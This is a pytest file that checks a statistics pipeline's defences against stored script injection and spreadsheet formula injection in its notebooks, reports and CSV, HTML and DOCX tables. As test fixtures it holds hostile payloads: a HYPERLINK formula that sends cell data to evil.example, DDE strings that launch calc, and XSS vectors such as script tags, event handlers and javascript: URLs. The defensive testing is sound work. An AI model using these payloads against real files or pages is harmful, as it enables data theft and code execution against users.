"""Stored script and formula injection from study.yaml and data (issue 16, finding 3).

Study-supplied text (title, description, labels, levels) must show as text in notebooks and
the report, never run as HTML; text cells a spreadsheet would run as a formula are
neutralised in the CSV, HTML and DOCX tables, while numbers (and the project's own
formatted estimates) stay byte-identical.
"""

from __future__ import annotations

import base64
import io
import re

import nbformat
import numpy as np
import pandas as pd
import pytest
from conftest import make_study

from analysis.pipeline.export import (
    neutralise_formula,
    neutralise_frame,
    save_table,
    table_to_csv,
    table_to_docx,
    table_to_html,
)
from analysis.pipeline.manuscript_source import front_matter
from analysis.pipeline.report import clean_outputs, render_report, sanitize_html, write_manuscript
from analysis.study.config import load_study

# generated text of the manuscript (its own tests are in tests/pipeline/test_manuscript_report.py)
REPORT_TEXT = {"verdict": "V.", "summary": "S.", "methods": "M.", "participant-flow": "", "tripod": ""}
REPORT_SPEC = {"outcome": "y", "predictors": ["x"],
               "variables": {"x": {"type": "numeric"}, "y": {"type": "binary"}}}

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
SCRIPT_TITLE = "<script>alert(1)</script><img src=x onerror=alert(2)> Study"


# --------------------------------------------------------------------------------------
# formula injection
# --------------------------------------------------------------------------------------
@pytest.mark.parametrize("value", [
    HYPERLINK, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1",
    "\r=1+1", "=1", "-A1", "+", "--",
])
def test_formula_like_text_gets_a_leading_quote(value):
    assert neutralise_formula(value) == "'" + value


@pytest.mark.parametrize("value", [
    "-1.5", "-0.12 (-0.30 to 0.10)", "+3%", "-1.2e-05", "-", "1.01 (0.99-1.03)",
    "plain level", " =not at the start", "a=b", -1.5, -2, None, np.nan,
])
def test_numbers_and_ordinary_text_are_left_exactly_as_they_are(value):
    out = neutralise_formula(value)
    assert out is value


def test_tidy_csv_neutralises_levels_and_headers_but_not_numbers():
    tidy = pd.DataFrame({
        "level": [HYPERLINK, "plain"],
        "estimate": [-0.5, 1.25],
        "cell": ["-0.12 (-0.30 to 0.10)", "@x"],
        "+danger": [1, 2],
    })
    lines = table_to_csv(tidy).splitlines()
    assert lines[0] == "level,estimate,cell,'+danger"
    assert lines[1].startswith("\"'=HYPERLINK(") and lines[1].endswith(",-0.5,-0.12 (-0.30 to 0.10),1")
    assert lines[2] == "plain,1.25,'@x,2"
    assert tidy.loc[0, "level"] == HYPERLINK  # the caller's frame is not modified


def test_a_table_without_formula_text_is_passed_through_untouched():
    df = pd.DataFrame({"term": ["age", "sex[male]"], "or": [-0.25, 1.5], "ci": ["-1 to 2", "x"]})
    assert neutralise_frame(df) is df


def test_categorical_levels_are_neutralised_too():
    df = pd.DataFrame({"arm": pd.Categorical([HYPERLINK, "b"]), "n": [1, 2]})
    assert table_to_csv(df).splitlines()[1].startswith("\"'=HYPERLINK(")


def test_docx_cells_and_headers_are_neutralised():
    import docx

    shown = pd.DataFrame({"Level": [HYPERLINK, "-0.12 (-0.30 to 0.10)"], "@n": ["@x", "-1.5"]})
    doc = docx.Document(io.BytesIO(table_to_docx(shown, caption=SCRIPT_TITLE)))
    rows = [[c.text for c in row.cells] for row in doc.tables[0].rows]
    assert rows == [["Level", "'@n"], ["'" + HYPERLINK, "'@x"], ["-0.12 (-0.30 to 0.10)", "-1.5"]]
    assert doc.paragraphs[0].text == SCRIPT_TITLE  # plain text in Word, no markup to run


def test_html_table_escapes_cells_and_caption():
    html = table_to_html(pd.DataFrame({"Level": [HYPERLINK, "<img src=x onerror=alert(1)>"]}),
                         caption=SCRIPT_TITLE)
    assert "<script>" not in html and "<img" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html
    assert "<td>'=HYPERLINK(" in html


def test_saved_tables_keep_formatted_numbers_byte_identical(tmp_path):
    tidy = pd.DataFrame({"term": ["age"], "log_or": [-0.1234567891234], "p": [0.04]})
    shown = pd.DataFrame({"Term": ["Age"], "OR (95% CI)": ["-0.12 (-0.30 to 0.10)"]})
    save_table(tidy, "t", tmp_path, formatted=shown, caption="Table")
    assert (tmp_path / "t.csv").read_text() == "term,log_or,p\nage,-0.1234567891,0.04\n"
    assert "<td>-0.12 (-0.30 to 0.10)</td>" in (tmp_path / "t.html").read_text()


# --------------------------------------------------------------------------------------
# script injection: the report
# --------------------------------------------------------------------------------------
@pytest.mark.parametrize(("fragment", "forbidden"), [
    ("<script>alert(1)</script>", "<script"),
    ('<img src="x" onerror="alert(1)">', "onerror"),
    ('<a href="javascript:alert(1)">x</a>', "javascript:"),
    ('<a href="JaVaScRiPt:alert(1)">x</a>', "javascript:"),
    ('<svg onload="alert(1)"></svg>', "<svg"),
    ('<iframe src="http://evil.example"></iframe>', "<iframe"),
    ('<img src="data:text/html;base64,PHNjcmlwdD4=">', "data:text/html"),
    ('<div onmouseover="alert(1)">x</div>', "onmouseover"),
    ('<object data="x.swf"></object>', "<object"),
])
def test_sanitiser_drops_scripts_handlers_and_javascript_urls(fragment, forbidden):
    assert forbidden not in sanitize_html(fragment).lower()


def test_sanitiser_keeps_tables_figures_styles_and_links():
    png = "data:image/png;base64,iVBORw0KGgo="
    page = (table_to_html(pd.DataFrame({"a": ["x"], "b": [1.5]}), caption="Cap")
            + f'<img src="{png}" alt="fig"><a href="https://example.org/">ref</a><em>e</em>')
    clean = sanitize_html(page)
    for kept in ("<style>", "<table", "<td>x</td>", f'src="{png}"', 'href="https://example.org/"',
                 "<em>e</em>", "<strong>Cap</strong>"):
        assert kept in clean


def _png() -> str:
    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    fig, ax = plt.subplots(figsize=(1, 1))
    ax.plot([0, 1])
    buf = io.BytesIO()
    fig.savefig(buf, format="png")
    plt.close(fig)
    return base64.b64encode(buf.getvalue()).decode()


def test_fallback_report_shows_a_hostile_title_and_outputs_as_text(tmp_path, monkeypatch):
    make_study(tmp_path, "demo", {"title": SCRIPT_TITLE, **REPORT_SPEC})
    study = load_study("demo", root=tmp_path)
    paths = study.paths
    nb = nbformat.v4.new_notebook()
    code = nbformat.v4.new_code_cell("#| label: tbl-table1\n#| tbl-cap: Table <script>x</script>\nx")
    code.outputs = [
        nbformat.v4.new_output("display_data", data={
            "text/html": table_to_html(pd.DataFrame({"Level": [HYPERLINK]}), caption="Table 1")
            + "<script>alert('output')</script><a href='javascript:alert(3)' onclick='x()'>l</a>",
            "text/plain": "table"}),
        nbformat.v4.new_output("display_data", data={"image/png": _png(), "text/plain": "fig"}),
    ]
    nb.cells = [nbformat.v4.new_markdown_cell("# Part <img src=x onerror=alert(4)>"), code]
    paths.notebooks.mkdir(parents=True)
    nbformat.write(nb, paths.notebooks / "02-describe-cohort.ipynb")
    monkeypatch.setenv("PATH", str(tmp_path / "empty-bin"))
    html = render_report(study, echo=lambda _: None, inserts=REPORT_TEXT).read_text()
    main = re.search(r"<main>(.*)</main>", html, re.DOTALL).group(1)
    assert "<script" not in main and "javascript:" not in main.lower()
    assert not re.search(r"<[^>]+\son\w+\s*=", main)  # no event-handler attribute on any tag
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in main  # the title, as text
    assert "<title>&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<table" in main and "'=HYPERLINK(" in main
    assert re.search(r'<img[^>]+src="data:image/png;base64,', main)


def test_embedded_outputs_are_sanitised_and_drop_javascript_for_both_routes():
    code = nbformat.v4.new_code_cell("x")
    code.outputs = [nbformat.v4.new_output("display_data", data={
        "text/html": "<p>kept</p><script>alert(1)</script>",
        "application/javascript": "alert(2)", "text/plain": "x"})]
    out = clean_outputs(code)[0]["data"]
    assert out["text/html"] == "<p>kept</p>&lt;script&gt;alert(1)&lt;/script&gt;"
    assert "application/javascript" not in out and out["text/plain"] == "x"


def test_front_matter_title_cannot_inject_yaml_or_markup(tmp_path):
    make_study(tmp_path, "demo", {"title": 'Evil"\ntoc: false\n<script>x</script> \\ end', **REPORT_SPEC})
    text = write_manuscript(load_study("demo", root=tmp_path), REPORT_TEXT).read_text()
    front = front_matter(text)
    assert set(front) == {"title", "subtitle"}
    assert "<script>" not in front["title"] and "&lt;script&gt;" in front["title"]


# --------------------------------------------------------------------------------------
# notebooks: escaped study text, and a stage with nothing to do says so
# --------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def single_predictor_study(tmp_path_factory):
    """A study with one numeric predictor, a hostile title and a formula-like level,
    prepared by notebook 01."""
    from conftest import REPO

    from analysis.pipeline.runner import run_notebook

    root = tmp_path_factory.mktemp("hostile")
    rng = np.random.default_rng(1)
    n = 60
    age = rng.normal(50, 10, n).round(1)
    data = pd.DataFrame({
        "pid": np.arange(n), "age": age,
        "arm": rng.choice([HYPERLINK, "plain"], n),
        "response": rng.binomial(1, 1 / (1 + np.exp(-(age - 50) / 10))),
    })
    make_study(root, "hostile", {
        "title": SCRIPT_TITLE, "description": "<b onmouseover=alert(3)>d</b>",
        "id": "pid", "outcome": "response", "group": "arm", "predictors": ["age"],
        "variables": {
            "age": {"type": "numeric", "min": 0, "max": 120, "label": "Age"},
            "arm": {"type": "categorical", "levels": [HYPERLINK, "plain"], "label": "Arm"},
            "response": {"type": "binary", "label": "Response"},
        },
    }, data)
    out = root / "reports" / "hostile" / "notebooks"

    def run(name):
        return run_notebook(REPO / "notebooks" / name, out / name,
                            {"study": "hostile", "smoke": True}, root=root, progress=False)

    run("01-prepare-cohort.ipynb")
    return root, run


def _markdown_outputs(path) -> list[str]:
    nb = nbformat.read(path, as_version=4)
    return [o["data"]["text/markdown"] for c in nb.cells if c.cell_type == "code"
            for o in c.get("outputs", []) if "text/markdown" in o.get("data", {})]


@pytest.mark.notebook
def test_notebook_01_shows_the_study_title_as_text(single_predictor_study):
    root, _ = single_predictor_study
    shown = "\n".join(_markdown_outputs(root / "reports/hostile/notebooks/01-prepare-cohort.ipynb"))
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in shown and "<script" not in shown
    assert "onmouseover" in shown and "<b " not in shown


@pytest.mark.notebook
def test_notebook_03_with_one_numeric_predictor_says_there_is_nothing_to_correlate(single_predictor_study):
    root, run = single_predictor_study
    path = run("03-correlate-predictors.ipynb")
    shown = "\n".join(_markdown_outputs(path))
    assert "Nothing to correlate" in shown and "Nothing to check for multicollinearity" in shown
    tables = root / "reports" / "hostile" / "tables"
    assert (tables / "outcome_associations.csv").exists()  # the rest of the stage still ran
    assert not (tables / "correlation.csv").exists() and not (tables / "vif.csv").exists()
